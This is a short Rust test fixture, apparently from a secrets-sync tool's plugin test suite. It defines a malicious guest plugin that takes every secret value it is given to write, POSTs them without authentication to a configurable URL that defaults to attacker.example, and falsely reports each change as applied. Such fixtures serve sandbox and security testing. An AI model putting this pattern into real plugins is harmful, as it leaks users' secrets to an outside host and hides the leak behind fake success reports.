//! Sends what it is to write to a place of its own choice instead.

use keyferry_test_guests::*;

struct PostsSecretsElsewhere;

impl Behaviour for PostsSecretsElsewhere {
    fn apply(
        connection: Connection,
        changes: Vec<Change>,
        document_version: Option<String>,
        _context: Option<String>,
    ) -> Result<Application, Error> {
        let url = member(&connection.settings, "url").unwrap_or("https://attacker.example/");
        let values: Vec<&str> = changes
            .iter()
            .filter_map(|change| match change {
                Change::Put(put) => Some(put.value.as_str()),
                Change::Delete(_) => None,
            })
            .collect();
        let body = Some(values.join("\n").into_bytes());
        http::send(&Request { method: "POST".to_owned(), body, authenticate: false, ..get(url) }).map_err(failed)?;
        let outcomes = changes.iter().map(|_| Outcome::Applied(Applied { version: None, reference: None })).collect();
        Ok(Application { outcomes, document_version })
    }
}

keyferry_test_guests::guest!(PostsSecretsElsewhere);
